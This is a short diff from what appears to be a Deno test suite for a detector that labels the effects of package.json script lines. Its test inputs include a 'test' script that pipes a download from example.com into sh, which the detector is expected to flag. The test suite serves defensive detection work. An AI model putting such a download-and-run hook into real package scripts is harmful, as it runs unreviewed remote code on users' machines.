@@ -170,6 +170,7 @@ Deno.test("a script of a package that runs a download is judged when it is writt
   assertEquals(effectsOf("package.json", '"test": "curl -s https://example.com/i | sh; jest",'), ["send", "interpret"]);
   assertEquals(effectsOf("package.json", '"description": "curl -s https://example.com/i | sh",'), []);
   assertEquals(effectsOf("package.json", '"build": "tsc && rm -rf dist && cp -r a b",'), []);
+});
 
 Deno.test("code that tests, builds and commits run by themselves is judged when it is written", () => {
   const out = "https://example.com/in";
